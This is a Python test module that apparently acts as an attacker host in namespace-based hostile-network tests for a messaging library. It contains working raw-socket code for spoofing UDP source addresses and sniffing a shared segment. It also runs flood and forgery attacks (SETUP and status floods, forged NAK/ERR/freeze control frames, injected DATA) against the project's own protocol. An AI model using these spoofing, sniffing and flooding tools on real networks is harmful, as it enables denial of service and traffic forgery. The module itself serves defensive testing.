"""An attacker on the segment: raw-socket tools for the hostile-network tests (docs/SECURITY.md).

Run inside an attacker host of :class:`~slipstream.sim.real.hosts.NamespaceHosts` (one made
with ``shared_segment=True``, whose bridge floods every frame to every port, as a hub or a
switch whose table overflowed would, so the attacker sees the other hosts' traffic):

* :class:`RawSender` sends UDP datagrams with any source address and port (``IP_HDRINCL``):
  spoofing another host, or many source ports at once;
* :class:`Sniffer` reads every UDP/IPv4 datagram on the attacker's link (``AF_PACKET``),
  the other hosts' included, and :func:`learn_stream` finds a stream's session, positions,
  receivers and their addresses in them, as an attacker would before forging control;
* the attacks themselves, one function each, each returning a JSON-able summary of what it
  sent and saw.  ``python -m slipstream.sim.real.attacker ATTACK JSON`` runs one in a host
  (:meth:`Host.popen`) and prints its summary as one JSON line.

Frames come from the client library's codecs (:mod:`slipstream.client.frames`): what the
attacker sends is well formed, which is the point: a malformed frame is already counted and
dropped by the driver's decoders.
"""

from __future__ import annotations

import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any, Final

import attrs

from slipstream.client import frames
from slipstream.client.layout import FRAME_ALIGNMENT, SM_SEND_SETUP_FLAG, align

Address = tuple[str, int]

_IPV4_HEADER: Final = struct.Struct("!BBHHHBBH4s4s")
_UDP_HEADER: Final = struct.Struct("!HHHH")
_ETH_P_IP: Final = 0x0800
_ETH_P_ALL: Final = 0x0003
_ETHERNET_HEADER_LENGTH: Final = 14


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_packet(source: Address, destination: Address, payload: bytes) -> bytes:
    """An IPv4 packet carrying one UDP datagram from ``source`` to ``destination``, checksums
    filled in (the kernel drops a UDP datagram whose checksum is wrong)."""
    src = ipaddress.IPv4Address(source[0]).packed
    dst = ipaddress.IPv4Address(destination[0]).packed
    udp_length = _UDP_HEADER.size + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_length)
    header = _UDP_HEADER.pack(source[1], destination[1], udp_length, 0)
    checksum = _checksum(pseudo + header + payload) or 0xFFFF
    udp = _UDP_HEADER.pack(source[1], destination[1], udp_length, checksum) + payload
    ip_header = _IPV4_HEADER.pack(0x45, 0, _IPV4_HEADER.size + len(udp),
                                  random.getrandbits(16), 0x4000, 64, socket.IPPROTO_UDP, 0,
                                  src, dst)
    ip_header = ip_header[:10] + struct.pack("!H", _checksum(ip_header)) + ip_header[12:]
    return ip_header + udp


class RawSender:
    """Sends UDP datagrams from any address (a raw socket; needs CAP_NET_RAW)."""

    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.socket.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
        self.sent = 0
        self.sent_bytes = 0

    def send(self, source: Address, destination: Address, payload: bytes) -> None:
        try:
            self.socket.sendto(udp_packet(source, destination, payload), (destination[0], 0))
        except BlockingIOError:  # the link's queue is full: a flood loses some, as it would
            return
        self.sent += 1
        self.sent_bytes += len(payload)

    def close(self) -> None:
        self.socket.close()


@attrs.frozen
class Captured:
    """One UDP datagram seen on the link."""

    source: Address
    destination: Address
    payload: bytes
    time_s: float


class Sniffer:
    """Every UDP/IPv4 datagram on ``interface`` (or every interface), as the link carries it:
    frames to other hosts too, on a segment that floods them."""

    def __init__(self, interface: str | None = None) -> None:
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
        if interface is not None:
            self.socket.bind((interface, 0))
        self.socket.setblocking(False)

    def datagrams(self, seconds: float) -> Iterator[Captured]:
        """What arrives within ``seconds`` (outgoing copies of this host's own sends too)."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([self.socket], [], [], min(left, 0.05))
            if not ready:
                continue
            while True:
                try:
                    frame = self.socket.recv(65536)
                except BlockingIOError:
                    break
                captured = _parse_ethernet(frame)
                if captured is not None:
                    yield captured

    def close(self) -> None:
        self.socket.close()


def _parse_ethernet(frame: bytes) -> Captured | None:
    if len(frame) < _ETHERNET_HEADER_LENGTH + _IPV4_HEADER.size + _UDP_HEADER.size:
        return None
    if struct.unpack_from("!H", frame, 12)[0] != _ETH_P_IP:
        return None
    ip = frame[_ETHERNET_HEADER_LENGTH:]
    header_length = (ip[0] & 0x0F) * 4
    if ip[0] >> 4 != 4 or ip[9] != socket.IPPROTO_UDP or len(ip) < header_length + 8:
        return None
    total_length = struct.unpack_from("!H", ip, 2)[0]
    source_port, destination_port, udp_length, _ = _UDP_HEADER.unpack_from(ip, header_length)
    end = min(total_length, len(ip), header_length + udp_length)
    return Captured((socket.inet_ntoa(ip[12:16]), source_port),
                    (socket.inet_ntoa(ip[16:20]), destination_port),
                    bytes(ip[header_length + 8:end]), time.monotonic())


@attrs.define
class StreamSeen:
    """What the sniffer learned of one stream: the attacker's knowledge before it forges."""

    stream_id: int
    session_id: int | None = None
    publisher: Address | None = None
    subscriber: Address | None = None  # where data goes (the receiver's endpoint)
    receiver: Address | None = None  # where its status messages come from
    receiver_id: int | None = None
    term_length: int | None = None
    initial_term_id: int | None = None
    term_id: int | None = None
    term_offset: int = 0
    mtu: int | None = None

    def to_json(self) -> dict[str, Any]:
        return attrs.asdict(self)


def learn_stream(sniffer: Sniffer, stream_id: int, seconds: float,
                 until: Callable[[StreamSeen], bool] | None = None) -> StreamSeen:
    """Watch the link for ``seconds`` (or until ``until`` holds) and note what it shows of
    ``stream_id``: its session and addresses from DATA, SETUP and SM frames."""
    seen = StreamSeen(stream_id)
    for captured in sniffer.datagrams(seconds):
        for frame in _frames(captured.payload):
            if getattr(frame, "stream_id", None) != stream_id:
                continue
            if isinstance(frame, frames.Setup):
                seen.session_id = frame.session_id
                seen.term_length, seen.mtu = frame.term_length, frame.mtu
                seen.initial_term_id = frame.initial_term_id
                seen.publisher, seen.subscriber = captured.source, captured.destination
            elif isinstance(frame, frames.Data | frames.Heartbeat):
                seen.session_id = frame.session_id
                seen.publisher, seen.subscriber = captured.source, captured.destination
                seen.term_id = frame.term_id
                seen.term_offset = frame.term_offset + align(frame.frame_length,
                                                             FRAME_ALIGNMENT)
            elif isinstance(frame, frames.StatusMessage):
                seen.receiver, seen.receiver_id = captured.source, frame.receiver_id
                seen.session_id = frame.session_id
        if until is not None and until(seen):
            break
    return seen


def _follow(sniffer: Sniffer, seen: StreamSeen) -> None:
    """Move ``seen``'s live position to the last DATA the link carried since the last look."""
    for captured in sniffer.datagrams(0.001):
        for frame in _frames(captured.payload):
            if isinstance(frame, frames.Data) and frame.stream_id == seen.stream_id:
                seen.term_id = frame.term_id
                seen.term_offset = frame.term_offset + align(frame.frame_length,
                                                             FRAME_ALIGNMENT)


def _frames(payload: bytes) -> list[Any]:
    if len(payload) < 8:
        return []
    decoded = frames.decode_datagram(payload)
    return [] if isinstance(decoded, frames.Rejected) else decoded


class _Pacer:
    """``rate`` sends a second for ``seconds``: each of the ``rate * seconds`` sends at its
    time, or at once when the sender fell behind (a busy machine), so that they all go,
    late rather than never; with ``rate`` 0, as fast as the socket takes them until
    ``seconds`` passed."""

    def __init__(self, rate: float, seconds: float) -> None:
        self.rate, self.start = rate, time.monotonic()
        self.deadline = self.start + seconds
        self.total = round(rate * seconds) if rate > 0 else None
        self.count = 0

    def __iter__(self) -> Iterator[int]:
        while True:
            now = time.monotonic()
            if self.total is None:
                if now >= self.deadline:
                    return
            elif self.count >= self.total:
                return
            else:
                due = self.start + self.count / self.rate
                if due > now:
                    time.sleep(due - now)
                    continue
            yield self.count
            self.count += 1


def _address(value: Any) -> Address:
    host, _, port = str(value).rpartition(":")
    return host, int(port)


# -- the attacks -----------------------------------------------------------------------------
def setup_flood(target: str, stream_id: int, term_length: int, rate: float, seconds: float,
                mtu: int = 1408, source: str | None = None) -> dict[str, Any]:
    """SETUPs for a new session each, ``rate`` a second, to ``target`` (a subscription's
    endpoint), with ``term_length``: from this host's own address, or spoofed from
    ``source`` (``HOST:PORT``, the port drawn anew each time when 0)."""
    destination = _address(target)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    raw = RawSender() if source is not None else None
    spoofed = _address(source) if source is not None else None
    sent = 0
    try:
        for _ in _Pacer(rate, seconds):
            setup = frames.Setup(term_offset=0, session_id=random.getrandbits(31),
                                 stream_id=stream_id, initial_term_id=random.getrandbits(31),
                                 active_term_id=0, term_length=term_length, mtu=mtu)
            setup = attrs.evolve(setup, active_term_id=setup.initial_term_id)
            if raw is not None and spoofed is not None:
                port = spoofed[1] or random.randrange(1024, 65536)
                raw.send((spoofed[0], port), destination, setup.encode())
            else:
                own.sendto(setup.encode(), destination)
            sent += 1
    finally:
        own.close()
        if raw is not None:
            raw.close()
    return {"sent": sent}


def status_flood(control: str, stream_id: int, count: int, seconds: float,
                 session_id: int = 0, spoof_host: str | None = None, spoof_ports: int = 0,
                 listen_s: float = 0.0, window: int = 1 << 20) -> dict[str, Any]:
    """Status messages to a dynamic MDC publication's ``control`` address, ``count`` of them
    over ``seconds``: from this host's own socket (which then counts what the publisher sends
    it for ``listen_s``), or spoofed from ``spoof_host`` with ``spoof_ports`` source ports
    (what reaches them is for the sniffer or the victim to count)."""
    destination = _address(control)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(("0.0.0.0", 0))
    raw = RawSender() if spoof_host is not None else None
    sent = sent_bytes = 0
    rate = count / seconds if seconds > 0 else 0
    try:
        for i in _Pacer(rate, seconds):
            if i >= count:
                break
            sm = frames.StatusMessage(session_id, stream_id, 0, 0, window,
                                      receiver_id=random.getrandbits(63),
                                      flags=SM_SEND_SETUP_FLAG).encode()
            if raw is not None and spoof_host is not None:
                raw.send((spoof_host, 20000 + i % max(1, spoof_ports)), destination, sm)
            else:
                own.sendto(sm, destination)
            sent += 1
            sent_bytes += len(sm)
        received = received_bytes = data_frames = 0
        deadline = time.monotonic() + listen_s
        own.setblocking(False)
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([own], [], [], min(left, 0.05))
            while ready:
                try:
                    payload = own.recv(65536)
                except BlockingIOError:
                    break
                received += 1
                received_bytes += len(payload)
                data_frames += sum(isinstance(f, frames.Data) for f in _frames(payload))
    finally:
        own.close()
        if raw is not None:
            raw.close()
    return {"sent": sent, "sent_bytes": sent_bytes, "received": received,
            "received_bytes": received_bytes, "data_frames": data_frames}


def _learned(sniffer: Sniffer, stream_id: int, learn_s: float,
             known: dict[str, Any] | None) -> StreamSeen:
    """What the attacker knows of ``stream_id``: ``known`` (an attacker told everything but a
    key, as on an encrypted stream, whose frames the link does not show), else what the
    link shows within ``learn_s``."""
    if known is not None:
        fields = {k: tuple(v) if isinstance(v, list) else v for k, v in known.items()}
        return StreamSeen(stream_id, **fields)
    return learn_stream(sniffer, stream_id, learn_s,
                        until=lambda s: (s.session_id is not None and s.publisher is not None
                                         and s.receiver is not None and s.term_id is not None))


def forge_control(stream_id: int, kind: str, count: int, seconds: float,
                  spoof: bool = True, learn_s: float = 5.0,
                  freeze_after_s: float = 0.0, interface: str | None = None,
                  known: dict[str, Any] | None = None) -> dict[str, Any]:
    """Learn ``stream_id`` from the link (or take ``known``: :func:`_learned`), then send
    ``count`` forged control frames of
    ``kind`` to its publisher over ``seconds``: ``nak`` (NAKs for the last term's start),
    ``err`` (an ERR naming the real receiver's id), ``rate`` (a NAK-strength signal at a
    full window), ``freeze`` (status messages that track the live position for
    ``freeze_after_s``, then name the same position from then on, from this host's own
    address); spoofed from the real receiver's address when ``spoof``."""
    sniffer = Sniffer(interface)
    raw = RawSender()
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(("0.0.0.0", 0))
    receiver_id = random.getrandbits(63)
    try:
        seen = _learned(sniffer, stream_id, learn_s, known)
        if seen.session_id is None or seen.publisher is None or seen.receiver is None:
            return {"learned": seen.to_json(), "sent": 0, "error": "stream not seen"}
        assert seen.term_id is not None
        # A sender's control input is where its receivers' status messages go: the endpoint
        # its data comes from.
        target = seen.publisher
        sent = 0
        frozen: tuple[int, int] | None = None
        started = time.monotonic()
        rate = count / seconds if seconds > 0 else 0
        for i in _Pacer(rate, seconds):
            if i >= count:
                break
            if kind == "nak":
                frame = frames.Nak(seen.session_id, stream_id, seen.term_id, 0,
                                   min(seen.term_length or 65536, 65536)).encode()
            elif kind == "err":
                frame = frames.ErrorFrame(seen.session_id, stream_id, seen.receiver_id or 0,
                                          1, "forged \x1b[31mERROR\x1b[0m\nfake line").encode()
            elif kind == "rate":
                frame = frames.RateSignal(seen.session_id, stream_id, 1000, 90).encode()
            elif kind == "freeze":
                _follow(sniffer, seen)
                if frozen is None and time.monotonic() - started >= freeze_after_s:
                    frozen = (seen.term_id, seen.term_offset)
                term_id, offset = frozen or (seen.term_id, seen.term_offset)
                frame = frames.StatusMessage(seen.session_id, stream_id, term_id, offset,
                                             1 << 16, receiver_id).encode()
            else:
                raise ValueError(f"unknown kind of control frame: {kind!r}")
            if spoof:
                raw.send(seen.receiver, target, frame)
            else:
                own.sendto(frame, target)
            sent += 1
        return {"learned": seen.to_json(), "sent": sent, "frozen": frozen}
    finally:
        sniffer.close()
        raw.close()
        own.close()


def forge_data(stream_id: int, count: int, seconds: float, learn_s: float = 5.0,
               interface: str | None = None,
               known: dict[str, Any] | None = None) -> dict[str, Any]:
    """Learn ``stream_id`` from the link (or take ``known``: :func:`_learned`), then send
    ``count`` DATA frames spoofed from its publisher's address to its subscriber, each just
    ahead of the live position (so that it lands before the real one would), with a payload
    that says it is forged."""
    sniffer = Sniffer(interface)
    raw = RawSender()
    try:
        seen = _learned(sniffer, stream_id, learn_s, known)
        if seen.publisher is None or seen.subscriber is None or seen.session_id is None:
            return {"learned": seen.to_json(), "sent": 0, "error": "stream not seen"}
        sent = 0
        rate = count / seconds if seconds > 0 else 0
        for i in _Pacer(rate, seconds):
            if i >= count:
                break
            _follow(sniffer, seen)
            assert seen.term_id is not None
            body = b"FORGED" + bytes(58)
            offset = seen.term_offset + 2 * 96
            frame = frames.Data(term_offset=offset, session_id=seen.session_id,
                                stream_id=stream_id, term_id=seen.term_id,
                                payload=body).encode()
            raw.send(seen.publisher, seen.subscriber, frame)
            sent += 1
        return {"learned": seen.to_json(), "sent": sent}
    finally:
        sniffer.close()
        raw.close()


ATTACKS: Final[dict[str, Callable[..., dict[str, Any]]]] = {
    "setup-flood": setup_flood,
    "status-flood": status_flood,
    "forge-control": forge_control,
    "forge-data": forge_data,
}


def main(argv: list[str] | None = None) -> int:
    """``python -m slipstream.sim.real.attacker ATTACK '{"key": value, ...}'``: one JSON line."""
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 2 or args[0] not in ATTACKS:
        print(f"usage: attacker {{{','.join(ATTACKS)}}} JSON", file=sys.stderr)
        return 2
    result = ATTACKS[args[0]](**json.loads(args[1]))
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
